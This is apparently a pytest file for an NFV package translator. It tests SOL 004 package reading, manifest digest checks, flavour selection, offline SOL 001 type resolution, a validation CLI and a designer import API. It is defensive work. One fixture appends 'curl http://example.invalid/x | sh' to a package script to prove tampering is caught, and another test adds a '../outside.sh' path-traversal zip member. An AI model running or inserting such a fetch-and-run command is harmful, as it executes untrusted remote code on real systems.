"""SOL 004 packages (zip or folder) as one input to translate, rdcl_validate and the designer
import (translators.package); SOL 001 deployment flavours (translators.flavours); the SOL 001
type files set up in var/sol001 (translators.sol001, scripts/sol001_types.py).

The package is tests/data/packages/vnf_two_flavours plus what the test adds in tmp_path: the
SOL 001 type files (from var/sol001, as vendors ship them), a binary image and a manifest
with the SHA-256 of every file."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml

from translators import sol001
from translators.errors import DescriptorError
from translators.package import PackageError, open_package
from translators.sites import DEMO_SITES
from translators.translate import translate_file

DATA = Path(__file__).parent / "data" / "packages" / "vnf_two_flavours"
TYPES = ("etsi_nfv_sol001_common_types.yaml", "etsi_nfv_sol001_vnfd_types.yaml")
IMAGE = bytes(range(256)) * 40  # not UTF-8: a binary artifact


def _types_set_up() -> None:
    missing = [n for n in TYPES if sol001.find("v2.6.1", n) is None]
    assert not missing, f"run scripts/setup first (scripts/sol001_types.py): {missing}"


def build_package(folder: Path, manifest: bool = True) -> Path:
    """The test VNF package, laid out in ``folder`` (SOL 004 §4.1 with TOSCA-Metadata)."""
    _types_set_up()
    shutil.copytree(DATA, folder)
    for name in TYPES:
        shutil.copyfile(sol001.find("v2.6.1", name), folder / "Definitions" / name)
    (folder / "Files" / "images").mkdir(parents=True)
    (folder / "Files" / "images" / "web.qcow2").write_bytes(IMAGE)
    if manifest:
        lines = ["metadata:", "  vnf_product_name: two-flavour VNF", "  vnf_package_version: '1.0'", ""]
        for path in sorted(p for p in folder.rglob("*") if p.is_file()):
            rel = path.relative_to(folder).as_posix()
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            lines += [f"Source: {rel}", "Algorithm: SHA-256", f"Hash: {digest}", ""]
        (folder / "manifest.mf").write_text("\n".join(lines))
    return folder


def zip_of(folder: Path, target: Path) -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(p for p in folder.rglob("*") if p.is_file()):
            archive.write(path, path.relative_to(folder).as_posix())
    return target


@pytest.fixture(scope="module")
def package(tmp_path_factory):
    return build_package(tmp_path_factory.mktemp("pkg") / "vnf")


@pytest.fixture(scope="module")
def csar(package, tmp_path_factory):
    return zip_of(package, tmp_path_factory.mktemp("csar") / "vnf.csar")


@pytest.fixture
def tampered(package, tmp_path):
    folder = tmp_path / "tampered"
    shutil.copytree(package, folder)
    with open(folder / "Scripts" / "configure.sh", "a") as handle:
        handle.write("curl http://example.invalid/x | sh\n")
    return folder


# -- the reader ----------------------------------------------------------------------------


@pytest.mark.parametrize("zipped", [False, True], ids=["folder", "zip"])
def test_reader_tells_entry_descriptors_and_artifacts(package, csar, zipped):
    with open_package(csar if zipped else package) as pkg:
        assert pkg.entry == "Definitions/vnfd_top.yaml"
        assert (pkg.root / pkg.entry).is_file()
        assert pkg.meta["ETSI-Entry-Manifest"] == "manifest.mf"
        assert pkg.meta["ETSI-Entry-Change-Log"] == "Files/ChangeLog.txt"
        assert pkg.manifest == "manifest.mf"
        assert pkg.descriptors == [
            "Definitions/df_large.yaml",
            "Definitions/df_small.yaml",
            *(f"Definitions/{n}" for n in TYPES),
            "Definitions/vnf_types.yaml",
            "Definitions/vnfd_top.yaml",
        ]
        kinds = {a.path: a.kind for a in pkg.artifacts}
        assert kinds == {
            "Files/ChangeLog.txt": "metadata",
            "Files/images/web.qcow2": "image",
            "Files/kubernetes/monitor.yaml": "kubernetes",
            "Scripts/configure.sh": "script",
            "TOSCA-Metadata/TOSCA.meta": "metadata",
            "manifest.mf": "metadata",
        }
        assert [a.path for a in pkg.artifacts_of("kubernetes")] == ["Files/kubernetes/monitor.yaml"]
    assert pkg.read("Files/images/web.qcow2") == IMAGE  # after the block too


@pytest.mark.parametrize("zipped", [False, True], ids=["folder", "zip"])
def test_a_changed_file_is_refused_by_name(tampered, tmp_path, zipped):
    source = zip_of(tampered, tmp_path / "t.zip") if zipped else tampered
    with pytest.raises(PackageError) as err, open_package(source):
        pass
    [problem] = err.value.problems
    assert err.value.file.endswith("/manifest.mf")
    assert problem.rule == "package.digest"
    assert problem.path == "Source: Scripts/configure.sh"
    assert "Scripts/configure.sh was changed" in problem.message
    lines = (tampered / "manifest.mf").read_text().splitlines()
    assert lines[problem.line - 1] == "Source: Scripts/configure.sh"


def test_paths_leaving_the_package_and_oversize_members_are_refused(tmp_path, monkeypatch):
    evil = tmp_path / "evil.csar"
    with zipfile.ZipFile(evil, "w") as archive:
        archive.writestr("TOSCA-Metadata/TOSCA.meta", "TOSCA-Meta-File-Version: 1.0\nEntry-Definitions: a.yaml\n")
        archive.writestr("a.yaml", "tosca_definitions_version: tosca_simple_yaml_1_3\n")
        archive.writestr("../outside.sh", "echo\n")
    with pytest.raises(PackageError) as err, open_package(evil):
        pass
    assert [(p.path, p.rule) for p in err.value.problems] == [("../outside.sh", "package.path")]
    assert not (tmp_path / "outside.sh").exists()
    import translators.package as package

    monkeypatch.setattr(package, "MAX_FILE_BYTES", 100)
    big = tmp_path / "big.zip"
    with zipfile.ZipFile(big, "w") as archive:
        archive.writestr("a.yaml", "tosca_definitions_version: tosca_simple_yaml_1_3\n")
        archive.writestr("Files/images/i.img", b"\0" * 101)
    with pytest.raises(PackageError) as err, open_package(big):
        pass
    assert [(p.path, p.rule) for p in err.value.problems] == [("Files/images/i.img", "package.too-large")]


@pytest.mark.parametrize("version", ["tosca_simple_yaml_1_0", "tosca_simple_yaml_1_2"])
def test_a_root_level_entry_without_tosca_meta_is_tosca_1_1_and_later(tmp_path, version):
    """TOSCA YAML 1.3 §3.10 / SOL 004 §4.3: the one root-level YAML is the entry of a CSAR
    without TOSCA-Metadata, but a TOSCA 1.0 CSAR needs TOSCA.meta (tosca-parser says the
    same); the problem is on the entry's version line."""
    csar = tmp_path / "root.csar"
    with zipfile.ZipFile(csar, "w") as archive:
        archive.writestr("a.yaml", f"# a comment\ntosca_definitions_version: {version}\n")
    if version.endswith("1_2"):
        with open_package(csar) as pkg:
            assert pkg.entry == "a.yaml"
        return
    with pytest.raises(PackageError) as err, open_package(csar):
        pass
    assert [(p.path, p.rule, p.line) for p in err.value.problems] == [("tosca_definitions_version", "package.entry", 2)]


# -- translate -----------------------------------------------------------------------------


def _hot(translation) -> dict:
    return yaml.safe_load(translation.files["templates/core/stack.yaml"])


@pytest.fixture(scope="module")
def large(package):
    return translate_file(package, DEMO_SITES, flavour="large")


def test_the_chosen_flavour_is_translated_with_its_levels_and_aspects(package, large):
    small = translate_file(package, DEMO_SITES, flavour="small")
    assert set(_hot(small)["resources"]) >= {"web"} and "db" not in _hot(small)["resources"]
    assert _hot(small)["parameters"]["web_count"]["constraints"] == [{"range": {"min": 1, "max": 2}}]
    core = json.loads(small.files["group_vars/core.json"])
    assert core["heat_stack_scale_level_ids"] == ["one", "two"]
    hot = _hot(large)
    assert hot["resources"]["web_tier"]["type"] == "OS::Heat::AutoScalingGroup"
    assert hot["resources"]["db"]["type"] == "OS::Heat::ResourceGroup"
    core = json.loads(large.files["group_vars/core.json"])
    assert core["heat_stack_scale_level_ids"] == ["base", "peak"]
    assert core["heat_stack_scale_aspects"]["web_tier"]["max_scale_level"] == 4
    index = json.loads(large.files["service.json"])
    assert index["flavour"] == {
        "id": "large",
        "ids": ["small", "large"],
        "file": "df_large.yaml",
        "input": "selected_flavour",
    }
    assert (
        "deployment flavour large (df_large.yaml) translated; other flavours (translate each with --flavour): small"
        in (large.report)
    )


def test_the_dialog_offers_the_translated_flavour(large):
    pytest.importorskip("django")
    from nfvo.dialog import schema_from_inputs

    index = json.loads(large.files["service.json"])
    field = schema_from_inputs(index["inputs"])["properties"]["selected_flavour"]
    assert field["enum"] == ["large"] and field["default"] == "large"
    assert "small" in field["description"]
    # the flavour's own inputs get the values the VNF node gives them, not dialog questions
    fed = {i["name"]: i["default"] for i in index["inputs"]}
    assert fed["descriptor_id"] == "6b1a4c6e-0d2e-4a8e-9b59-2f3f4c2d7a11" and fed["flavour_id"] == "large"


def test_kubernetes_manifests_are_carried_and_every_artifact_reported(large, package):
    assert (
        large.files["artifacts/Files/kubernetes/monitor.yaml"]
        == (package / "Files/kubernetes/monitor.yaml").read_text()
    )
    listed = {a["path"]: a for a in json.loads(large.files["service.json"])["package"]["artifacts"]}
    assert listed["Files/kubernetes/monitor.yaml"]["carried"] == "artifacts/Files/kubernetes/monitor.yaml"
    assert listed["Files/images/web.qcow2"] == {
        "path": "Files/images/web.qcow2",
        "kind": "image",
        "size": len(IMAGE),
        "carried": None,
    }
    assert any(r.startswith("Files/images/web.qcow2: image artifact") for r in large.report)
    assert any(r.startswith("Scripts/configure.sh: script artifact") for r in large.report)
    assert not any(k.startswith("artifacts/Files/images") for k in large.files)


def test_zipped_and_folder_packages_translate_alike(csar, large):
    zipped = translate_file(csar, DEMO_SITES, flavour="large")
    assert set(zipped.files) == set(large.files)
    same = [
        k for k in large.files if k.startswith(("templates/", "artifacts/", "roles/")) or k == "group_vars/core.json"
    ]
    assert len(same) > 5 and all(large.files[k] == zipped.files[k] for k in same)  # the rest names the package
    assert json.loads(zipped.files["service.json"])["package"]["name"] == "vnf.csar"


def test_several_flavours_and_none_chosen_is_refused(package):
    with pytest.raises(DescriptorError) as err:
        translate_file(package, DEMO_SITES)
    [problem] = err.value.problems
    assert problem.rule == "flavour.choose" and problem.line == 12
    assert "small (df_small.yaml), large (df_large.yaml)" in problem.message
    with pytest.raises(DescriptorError) as err:
        translate_file(package, DEMO_SITES, flavour="medium")
    assert [p.rule for p in err.value.problems] == ["flavour.unknown"]
    # the flavour_id input's value chooses
    chosen = translate_file(package, DEMO_SITES, params={"selected_flavour": "small"})
    assert json.loads(chosen.files["service.json"])["flavour"]["id"] == "small"


def test_an_abstract_vnf_is_refused_saying_where_its_flavours_are(package, tmp_path):
    folder = tmp_path / "no-flavours"
    shutil.copytree(package, folder)
    top = folder / "Definitions" / "vnfd_top.yaml"
    top.write_text(top.read_text().replace("  - df_small.yaml\n  - df_large.yaml\n", ""))
    (folder / "manifest.mf").unlink()
    (folder / "TOSCA-Metadata" / "TOSCA.meta").write_text(
        (folder / "TOSCA-Metadata" / "TOSCA.meta").read_text().replace("ETSI-Entry-Manifest: manifest.mf\n", "")
    )
    with pytest.raises(DescriptorError) as err:
        translate_file(folder, DEMO_SITES)
    [problem] = err.value.problems
    assert problem.rule == "flavour.missing" and problem.path == "topology_template.node_templates.VNF"
    assert "its flavours are in Definitions/df_large.yaml, Definitions/df_small.yaml" in problem.message


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "translators", "translate", *args], capture_output=True, text=True, timeout=600
    )


def test_translate_cli_takes_packages_zipped_or_not_and_refuses_a_tampered_one(package, csar, tampered, tmp_path):
    for source in (package, csar):
        done = _cli(str(source), "--out", str(tmp_path / "out"), "--to", "hot", "--flavour", "small")
        assert done.returncode == 0, done.stderr
        assert (tmp_path / "out" / "two-flavour-vnf" / "core" / "stack.yaml").is_file() or list(
            (tmp_path / "out" / "two-flavour-vnf").rglob("stack.yaml")
        )
    done = _cli(str(tampered), "--out", str(tmp_path / "bad"))
    assert done.returncode == 1
    assert "[package.digest] Scripts/configure.sh was changed" in done.stderr
    assert f"{tampered}/manifest.mf:" in done.stderr
    assert not (tmp_path / "bad").exists()


# -- SOL 001 type files -------------------------------------------------------------------


SOL001_VDU = """\
tosca_definitions_version: tosca_simple_yaml_1_2
description: one VM VDU on the SOL 001 v2.6.1 types
imports:
  - {prefix}etsi_nfv_sol001_common_types.yaml
  - {prefix}etsi_nfv_sol001_vnfd_types.yaml
topology_template:
  node_templates:
    web:
      type: tosca.nodes.nfv.Vdu.Compute
      properties:
        name: web
        description: web server
        vdu_profile: {{min_number_of_instances: 1, max_number_of_instances: 1}}
      capabilities:
        virtual_compute:
          properties:
            virtual_memory: {{virtual_mem_size: 512 MiB}}
            virtual_cpu: {{num_virtual_cpu: 1}}
"""


@pytest.mark.parametrize("how", ["url", "name"])
def test_sol001_types_resolve_by_url_and_by_name_without_network(tmp_path, how, monkeypatch):
    _types_set_up()
    import urllib.request

    def no_network(*args, **kwargs):
        raise AssertionError("nothing is downloaded")

    monkeypatch.setattr(urllib.request, "urlopen", no_network)
    prefix = "https://forge.etsi.org/rep/nfv/SOL001/raw/v2.6.1/" if how == "url" else ""
    vnfd = tmp_path / "vnfd.yaml"
    vnfd.write_text(SOL001_VDU.format(prefix=prefix))
    assert not (tmp_path / TYPES[0]).exists()  # not beside it: from var/sol001
    result = translate_file(vnfd, DEMO_SITES)
    assert _hot(result)["resources"]["web"]["type"] == "OS::Nova::Server"
    monkeypatch.setattr(sol001, "DEFAULT_FOLDER", tmp_path / "no-setup")
    with pytest.raises(DescriptorError) as err:  # without the set-up copies: refused, not fetched
        translate_file(vnfd, DEMO_SITES)
    assert {p.rule for p in err.value.problems} <= {"import.url", "ImportError", "InvalidTypeError"}, err.value.report()


def test_setup_puts_the_pinned_type_files_in_place():
    from importlib import util

    spec = util.spec_from_file_location("sol001_types", Path(__file__).parent.parent / "scripts" / "sol001_types.py")
    module = util.module_from_spec(spec)
    spec.loader.exec_module(module)
    assert module.missing() == []  # every pinned file is there with its sha256
    assert sol001.available()["v2.6.1"] == sorted(TYPES)
    url = "https://forge.etsi.org/rep/nfv/sol001/-/raw/v2.6.1/etsi_nfv_sol001_vnfd_types.yaml"
    assert sol001.local_defs()[url] == str(sol001.find("v2.6.1", TYPES[1]))
    requirement = (Path(__file__).parent.parent / "scripts" / "sol001-requirements.txt").read_text()
    assert "tacker==16.0.0 --hash=sha256:" in requirement


# -- rdcl_validate -------------------------------------------------------------------------


def test_rdcl_validate_takes_a_package_folder_or_zip_as_one_input(package, csar, tampered):
    from .test_rdcl_cli import manage

    out = manage("rdcl_validate", str(package), str(csar))
    lines = out.stdout.splitlines()
    assert lines == [f"{package}/Definitions/vnfd_top.yaml: valid (tosca-nfv)", f"{csar}: valid (tosca-nfv)"], out
    assert out.returncode == 0
    out = manage("rdcl_validate", str(tampered))
    assert out.returncode == 1
    assert any(
        line.startswith(f"{tampered}/manifest.mf:") and "[package.digest] Scripts/configure.sh was changed" in line
        for line in out.stdout.splitlines()
    ), out.stdout


# -- the designer import --------------------------------------------------------------------


@pytest.mark.django_db
def test_designer_imports_a_package_with_binary_artifacts_and_exports_its_meta(csar, tampered, tmp_path):
    from django.contrib.auth.models import User

    from .helpers import api_client

    client = api_client(User.objects.create_user("pat"))
    resp = client.post(
        "/api/rdcl/projects/import/",
        {"file": _named("vnf.csar", csar.read_bytes())},
        format="multipart",
    )
    assert resp.status_code == 201, resp.content
    project = resp.json()
    files = client.get(f"/api/rdcl/projects/{project['id']}/files/").json()
    paths = {f["path"] for f in (files["results"] if isinstance(files, dict) else files)}
    assert "Files/kubernetes/monitor.yaml" in paths and "Files/images/web.qcow2" not in paths  # binary: an artifact
    download = client.get(f"/api/rdcl/projects/{project['id']}/csar/")
    assert download.status_code == 200
    data = b"".join(download.streaming_content) if hasattr(download, "streaming_content") else download.content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        meta = archive.read("TOSCA-Metadata/TOSCA.meta").decode()
        assert "ETSI-Entry-Manifest: manifest.mf\n" in meta and "ETSI-Entry-Change-Log: Files/ChangeLog.txt\n" in meta
        assert archive.read("Files/images/web.qcow2") == IMAGE
    again = tmp_path / "again.csar"
    again.write_bytes(data)
    with open_package(again) as pkg:  # its manifest still matches every file
        assert pkg.entry == "Definitions/vnfd_top.yaml"
    bad = zip_of(tampered, tmp_path / "bad.csar")
    resp = client.post("/api/rdcl/projects/import/", {"file": _named("bad.csar", bad.read_bytes())}, format="multipart")
    assert resp.status_code == 400
    problems = resp.json()["problems"]
    assert [(p["file"], p["rule"], p["path"]) for p in problems] == [
        ("manifest.mf", "package.digest", "Source: Scripts/configure.sh")
    ]


def _named(name: str, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data, content_type="application/zip")
